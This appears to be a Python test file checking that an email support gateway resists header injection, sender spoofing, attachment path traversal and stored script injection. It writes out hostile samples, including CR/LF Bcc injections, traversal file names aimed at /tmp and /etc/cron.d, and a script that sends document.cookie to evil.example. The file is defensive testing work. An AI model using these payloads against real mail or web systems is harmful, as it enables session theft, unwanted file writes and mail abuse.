"""Injection through what we echo and what we store, on SQLite and PostgreSQL, delivered through a
real SMTP relay: CR/LF and header text in subjects, sender names and Message-IDs never become a
header of the mail the relay receives, and never add a recipient; an encoded display name never
stands in for the sender's address; attachment names never choose where a file is written; HTML
and script in a body are stored as text."""

from __future__ import annotations

from dataclasses import replace
from email import message_from_bytes
from email.message import EmailMessage, Message
from pathlib import Path

from sqlalchemy import select

from gateway import clock
from gateway.outbound import mail_sender as outbox_sender
from gateway.storage.models import AttachmentRecord, OutboxRow
from gateway.storage.models import Message as StoredMessage
from tests.helpers import CapturingRelay, Gateway

VICTIM = "victim@elsewhere.example"
SENDERS = {  # unknown senders: their own display name is echoed as $name
    "subject": "mallory1@unknown.example",
    "name": "mallory2@unknown.example",
    "folded": "mallory3@unknown.example",
    "msgid": "mallory4@unknown.example",
}


def deliver(gateway: Gateway, relay: CapturingRelay) -> int:
    outbound = replace(gateway.settings.gateway.outbound, enabled=True, relay_port=relay.port)
    return outbox_sender.send_due(gateway.worker.sessions, outbound, "test")


def hostile(sender: str, headers: bytes, body: bytes = b"Please help.\r\n") -> bytes:
    return (
        b"To: support@example.com\r\nDate: Mon, 23 Nov 2026 10:00:00 -0500\r\n"
        + headers.replace(b"SENDER", sender.encode())
        + b"\r\n"
        + body
    )


INJECTIONS = [
    # An encoded CR/LF in the subject, which the acknowledgement's Subject echoes.
    hostile(
        SENDERS["subject"],
        b"From: <SENDER>\r\nMessage-ID: <inj1@unknown.example>\r\n"
        b"Subject: =?utf-8?q?Help=0D=0ABcc:_victim@elsewhere.example=0D=0AX-Evil:_1?=\r\n",
    ),
    # An encoded CR/LF in the display name, which the acknowledgement's body greets.
    hostile(
        SENDERS["name"],
        b"From: =?utf-8?q?Mal=0D=0ABcc:_victim@elsewhere.example?= <SENDER>\r\n"
        b"Message-ID: <inj2@unknown.example>\r\nSubject: Help\r\n",
    ),
    # A folded subject whose continuation looks like a header.
    hostile(
        SENDERS["folded"],
        b"From: <SENDER>\r\nMessage-ID: <inj3@unknown.example>\r\n"
        b"Subject: Help\r\n Bcc: victim@elsewhere.example\r\n",
    ),
    # A folded Message-ID without brackets, which our In-Reply-To would echo (this one broke the
    # outbox sender before: the header could not be built and the batch after it stalled).
    hostile(
        SENDERS["msgid"],
        b"From: <SENDER>\r\nMessage-ID: inj4@unknown.example\r\n\tBcc: victim@elsewhere.example\r\n"
        b"Subject: Help\r\n",
    ),
]


OUR_HEADERS = {
    "from",
    "to",
    "subject",
    "message-id",
    "date",
    "in-reply-to",
    "references",
    "auto-submitted",
    "x-auto-response-suppress",
    "x-intake-gateway",
    "mime-version",
    "content-type",
    "content-transfer-encoding",
}


def headers_of(raw: bytes) -> Message:
    return message_from_bytes(raw)


def test_crlf_in_subjects_names_and_message_ids_never_becomes_a_header_of_our_reply(
    gateway: Gateway, relay: CapturingRelay
) -> None:
    for raw in INJECTIONS:
        gateway.ingest(raw)
    gateway.ingest(b"Received: from mx2 by mx\r\n" + INJECTIONS[0])  # a redelivery: duplicate
    gateway.drain()
    assert sorted(i.outcome for i in gateway.intakes()) == ["duplicate"] + ["ticket"] * 4
    rows = gateway.outbox()
    assert {r.recipient for r in rows} == set(SENDERS.values())
    assert deliver(gateway, relay) == len(rows) == 4
    assert [r.status for r in gateway.outbox()] == ["sent"] * 4
    assert sorted(r for rs in relay.recipients for r in rs) == sorted(SENDERS.values())
    for raw in relay.messages:
        sent = headers_of(raw)
        names = [name.lower() for name in sent]
        # Exactly the headers build_email writes, each once: nothing injected, nothing doubled.
        assert set(names) <= OUR_HEADERS and len(names) == len(set(names)), names
        assert sent["To"] in SENDERS.values()
        assert VICTIM not in (sent["In-Reply-To"] or "")
    subjects = [" ".join(str(headers_of(raw)["Subject"]).split()) for raw in relay.messages]
    assert any("Help Bcc: victim@elsewhere.example X-Evil: 1" in s for s in subjects)


def test_an_unbuildable_outbox_row_is_a_dead_letter_and_the_rows_after_it_are_sent(
    gateway: Gateway, relay: CapturingRelay
) -> None:
    """Defence in depth for the outbox: whatever text reached a row (a template, a config value,
    a future channel), one row that cannot be a mail must not stall the others forever."""
    now = clock.now()

    def row(n: int, in_reply_to: str) -> OutboxRow:
        return OutboxRow(
            header_message_id=f"row{n}@support.example.com",
            kind="acknowledgement",
            channel="email",
            recipient=f"customer{n}@client.example",
            subject=f"Reply {n}",
            body="Hello.",
            in_reply_to=in_reply_to,
            status="pending",
            attempts=0,
            next_attempt_at=now,
            created_at=now,
        )

    with gateway.worker.sessions.begin() as s:
        s.add(row(1, "broken@x\r\nBcc: victim@elsewhere.example"))
        s.add(row(2, "fine@client.example"))
    assert deliver(gateway, relay) == 1
    statuses = {r.recipient: (r.status, r.status_reason) for r in gateway.outbox()}
    assert statuses["customer2@client.example"] == ("sent", "")
    status, reason = statuses["customer1@client.example"]
    assert status == "failed" and "linefeed" in reason
    assert relay.recipients == [["customer2@client.example"]]
    assert deliver(gateway, relay) == 0  # the dead letter is not retried


def test_an_encoded_display_name_never_stands_in_for_the_sender_address(
    gateway: Gateway, relay: CapturingRelay
) -> None:
    raw = hostile(
        "mallory@unknown.example",
        b"From: =?utf-8?q?Dana_=3Cdana@acme-clinic.example=3E?= <SENDER>\r\n"
        b"Message-ID: <spoof@unknown.example>\r\nSubject: Invoice question\r\n",
    )
    gateway.ingest(raw)
    gateway.drain()
    (ticket,) = gateway.tickets()
    assert ticket.contact_email == "mallory@unknown.example"
    assert ticket.account_id != "acme-clinic"
    deliver(gateway, relay)
    assert relay.recipients == [["mallory@unknown.example"]]


TRAVERSALS = [
    "../../../../../../tmp/hostile-escape.txt",
    "..\\..\\..\\hostile-escape.bat",
    "/etc/cron.d/hostile-escape",
    "....//....//hostile-escape",
    "%2e%2e%2fhostile-escape",
    "hostile\x00escape.txt",
    "=?utf-8?q?=2E=2E=2F=2E=2E=2Fhostile-escape?=",
    "..",
    "",
]


def test_attachment_names_never_choose_where_a_file_is_written(
    gateway: Gateway, tmp_path: Path
) -> None:
    msg = EmailMessage()
    msg["From"] = "dana@acme-clinic.example"
    msg["To"] = "support@example.com"
    msg["Subject"] = "Logs"
    msg["Message-ID"] = "<traversal@acme-clinic.example>"
    msg.set_content("Logs attached.")
    for i, name in enumerate(TRAVERSALS):
        msg.add_attachment(f"payload {i}".encode(), maintype="text", subtype="x-log")
        part = msg.get_payload()[-1]
        del part["Content-Disposition"]
        part["Content-Disposition"] = f'attachment; filename="{name}"'
    raw = msg.as_bytes()
    before = {p for p in Path("/tmp").glob("hostile-escape*")}
    gateway.ingest(raw)
    gateway.drain()
    assert len(gateway.tickets()) == 1
    with gateway.session() as s:
        stored = list(s.execute(select(AttachmentRecord)).scalars())
    assert len(stored) == len(TRAVERSALS)
    for record in stored:
        assert "/" not in record.filename and "\\" not in record.filename, record.filename
        assert record.filename not in ("", ".", "..") and "\x00" not in record.filename
        assert record.stored
    # Content lives only under the blob store, named by its hash, never by the sender's name.
    blobs = gateway.settings.state_dir / "blobs"
    for record in stored:
        path = blobs / record.sha256[:2] / record.sha256
        assert path.is_file() and path.read_bytes().startswith(b"payload ")
    written = [p for p in tmp_path.rglob("*") if p.is_file() and "escape" in p.name.lower()]
    assert written == []
    assert {p for p in Path("/tmp").glob("hostile-escape*")} == before
    assert not Path("/etc/cron.d/hostile-escape").exists()


def test_html_and_script_in_a_body_are_stored_as_text(gateway: Gateway) -> None:
    html_only = EmailMessage()
    html_only["From"] = "dana@acme-clinic.example"
    html_only["To"] = "support@example.com"
    html_only["Subject"] = "<script>alert('subject')</script>"
    html_only["Message-ID"] = "<html@acme-clinic.example>"
    html_only.set_content(
        "<html><body><p>Printer &amp; scanner down</p>"
        "<script>fetch('https://evil.example/'+document.cookie)</script>"
        "<img src=x onerror=alert(1)></body></html>",
        subtype="html",
    )
    plain = EmailMessage()
    plain["From"] = "dana@acme-clinic.example"
    plain["To"] = "support@example.com"
    plain["Subject"] = "Plain text that looks like markup"
    plain["Message-ID"] = "<plain@acme-clinic.example>"
    plain.set_content("Type <script>alert(1)</script> into the field and it breaks.")
    gateway.ingest(html_only.as_bytes())
    gateway.ingest(plain.as_bytes())
    gateway.drain()
    with gateway.session() as s:
        stored = {m.subject: m.text for m in s.execute(select(StoredMessage)).scalars()}
    html_text = stored["<script>alert('subject')</script>"]  # a subject is kept verbatim, as text
    assert "Printer & scanner down" in html_text
    assert "<" not in html_text and "evil.example" not in html_text and "onerror" not in html_text
    # A text/plain body is text already: kept as written (the queue page escapes it on output).
    assert stored["Plain text that looks like markup"].strip() == (
        "Type <script>alert(1)</script> into the field and it breaks."
    )
